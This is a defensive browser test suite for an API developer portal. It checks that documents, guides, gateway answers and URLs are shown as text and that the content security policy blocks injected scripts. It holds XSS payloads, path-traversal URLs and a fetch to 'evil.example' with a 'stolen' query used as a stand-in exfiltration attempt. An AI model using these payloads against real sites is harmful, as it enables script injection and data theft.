"""Nothing that a document, a guide, an answer or an address says can run in a page.

`browser.Visit` watches every visit of every test; here are those made to break something.
"""

import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, Page

from tests.portal import sites
from tests.portal.browser import Visit
from tests.portal.demo_site import Portal
from tests.portal.fake_partner import SHOP
from tiergate.local.preview import server
from tiergate.policy.check import checked
from tiergate.policy.published import published
from tiergate.portal.build import build

pytestmark = pytest.mark.browser

EVIL = (
    '<img src=x onerror="window.canary=1"><script>window.canary=1</script><svg onload="window.canary=1">'
    "<iframe srcdoc='<script>top.canary=1</script>'></iframe> <https://a.example/\"onmouseover=\"window.canary=1>"
)
LINKS = "[link](javascript:window.canary=1) [data](data:text/html,<script>top.canary=1</script>)"
"""Which `tiergate check` refuses in guides and the changelog, whose authors can mend them."""

NAME = "'\"><img src=x onerror=canary=1>"
SCHEMA = {"properties": {NAME: {"type": "string", "description": f"{EVIL} {LINKS}", "default": EVIL, "enum": [EVIL]}}}
OPERATION = {
    "operationId": "a'><script>window.canary=1</script>",
    "summary": NAME,
    "description": f"{EVIL} {LINKS}",
    "tags": [NAME],
    "parameters": [{"name": NAME, "in": "query", "schema": {"type": "string", "example": EVIL}}],
    "requestBody": {"content": {"application/json": {"schema": SCHEMA, "example": {NAME: EVIL}}}},
    "responses": {"200": {"description": f"{EVIL} {LINKS}", "content": {"application/json": {"schema": SCHEMA}}}},
}
DOCUMENT = {
    "openapi": "3.1.0",
    "info": {"title": NAME, "version": NAME, "description": f"{EVIL} {LINKS}"},
    "tags": [{"name": NAME, "description": f"{EVIL} {LINKS}"}],
    "paths": {"/a": {"post": OPERATION}},
}
FILES = {
    "portal.yaml": json.dumps({"headline": NAME, "intro": EVIL, "texts": {"footer": NAME, "sign_up": NAME}}),
    "portal/guides/evil.md": f"---\nsummary: {json.dumps(NAME)}\n---\n\n# {NAME}\n\n## {EVIL}\n\n```js\n{EVIL}\n```\n",
    "portal/changelog/2026-01-01-evil.md": f"---\nkind: news\n---\n\n# {NAME}\n\n{EVIL}\n",
    "plans/free.yaml": "title: Free\nlimits: {rate: {per_second: 5, burst: 10}}\napproval: automatic\n"
    f"description: {json.dumps(EVIL)}\n",
}
PATHS = ("/", "/apis/things", "/apis/things/v1", "/guides", "/guides/evil", "/changelog", "/start")
INJECTED = """
() => {
  const led = ({name, value}) => /^(href|src|action)$/i.test(name) && /^\\s*(javascript|data:text)/i.test(value);
  const armed = ({attributes}) => [...attributes].some((each) => /^on|^srcdoc$/i.test(each.name) || led(each));
  const foreign = document.querySelectorAll("main :is(script, iframe, object, embed, style, link, img)");
  return [...document.querySelectorAll("*")].filter(armed).concat([...foreign]).map(({outerHTML}) => outerHTML);
}
"""


def harmless(page: Page) -> None:
    assert page.evaluate("typeof window.canary") == "undefined"
    assert page.evaluate(INJECTED) == []


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of the site of a platform where every text is an attack."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    policies = checked(sites.write(folder / "policies", {"things/v1": json.dumps(DOCUMENT)}, FILES))
    made = build(policies, published(policies, {}), out=folder / "site", root=sites.ROOT, today=sites.TODAY).folder
    web = server(0, lambda: made, upstreams={"/api": ""})
    threading.Thread(target=web.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{web.server_address[1]}"
    web.shutdown()
    web.server_close()


@pytest.mark.parametrize("path", PATHS)
def test_documents_and_markdown_are_text_and_nothing_else(path: str, hostile: str, shared: BrowserContext) -> None:
    seen = Visit(shared, hostile)
    page = seen.open(path)
    for each in page.get_by_role("button", name="Open all").all():
        each.click()
    search = page.get_by_role("combobox").first
    search.fill("canary")
    page.get_by_role("listbox").wait_for()
    assert "onerror" in page.locator("body").inner_text() or path == "/start"
    harmless(page)
    seen.close()
    assert [each for each in seen.faults if "config.json" not in each] == []


def evil_answer(page: Page) -> None:
    page.route("**/gateway/**", lambda route: route.fulfill(status=200, content_type="text/html", body=EVIL))


def test_what_the_gateway_answers_is_text(visit: Callable[..., Visit]) -> None:
    seen = visit()
    evil_answer(seen.page)
    page = seen.open("/apis/bank/v1/accounts")
    page.get_by_role("button", name="Try it: List accounts").click()
    page.get_by_role("button", name="Send request").click()
    page.locator(".result", has_text="onerror").wait_for()
    harmless(page)


@pytest.mark.parametrize(
    "path", ["/apps", f"/apps/{SHOP}", f"/apps/{SHOP}/usage", "/organization", "/invitations", "/notices"]
)
def test_what_the_portal_api_answers_is_text(path: str, visit: Callable[..., Visit], portal: Portal) -> None:
    evil(portal.fake.state.__dict__)
    page = visit(signed_in=True).open(path)
    assert "onerror" in page.locator("main").inner_text()
    harmless(page)


TEXTS = {
    "name",
    "note",
    "email",
    "invited_by",
    "guide",
    "reason",
    "operation",
    "method",
    "request_id",
    "hint",
    "title",
    "who",
}


def evil(value: Any) -> None:
    """Every text that somebody else may have written becomes an attack."""
    for key, each in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        if key == "guide":
            value[key] = "javascript:window.canary=1"
        elif key in TEXTS and isinstance(each, str):
            value[key] = NAME
        else:
            evil(each)


@pytest.mark.parametrize(
    "path",
    [
        f"/apis/{quote(NAME, safe='')}",
        f"/guides/{quote(NAME, safe='')}",
        f"/apis/bank/v1/accounts#{quote(NAME, safe='')}",
        f"/?state={quote(NAME, safe='')}",
        f"/signed-in?error=x&state=s&error_description={quote(NAME, safe='')}",
        f"/{quote(NAME, safe='')}",
        "//evil.example/%2e%2e",
    ],
)
def test_what_an_address_says_is_text(path: str, visit: Callable[..., Visit]) -> None:
    page = visit().open(path)
    harmless(page)


@pytest.mark.parametrize(
    "path",
    [
        "/apis/%2e%2e%2f%2e%2e%2fgateway%2fpub%23/v1",
        "/apis/bank/..%2f..%2f..%2fgateway%2fpub%3f/x",
        "/apis/bank/v1/..%2f..%2f..%2f..%2fgateway%2fpub%3f",
    ],
)
def test_an_address_cannot_make_an_answer_of_the_gateway_a_page(path: str, visit: Callable[..., Visit]) -> None:
    seen = visit()
    forged = {"title": "Your account is blocked", "version": "1", "openapi": "3.1.0", "tags": [], "operations": []}
    asked: list[str] = []
    seen.page.route("**/gateway/**", lambda route: (asked.append(route.request.url), route.fulfill(json=forged)))
    page = seen.open(path)
    assert "Not found" in page.locator("main").inner_text()
    assert asked == []


def test_a_script_that_got_in_would_be_refused(visit: Callable[..., Visit]) -> None:
    """The same watch that finds nothing elsewhere finds these."""
    seen = visit()
    page = seen.open("/")
    for attempt in (
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/a.js'}))",
        "new Function('window.canary = 1')()",
        "trustedTypes.createPolicy('default', {createHTML: (text) => text})",
    ):
        script = f"(done) => {{ try {{ {attempt}; done(false) }} catch {{ done(true) }} }}"
        assert page.evaluate(f"new Promise((done) => setTimeout({script}, 0, done))"), attempt
    page.evaluate("fetch('https://evil.example/?stolen').catch(() => null)")
    page.evaluate(
        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/a.png'}))"
    )
    page.wait_for_timeout(100)
    violated = [each for each in seen.faults if "policy violated" in each]
    for directive in ("require-trusted-types-for", "trusted-types", "connect-src", "img-src"):
        assert [each for each in violated if directive in each], directive
    assert page.evaluate("typeof window.canary") == "undefined"
    seen.faults.clear()
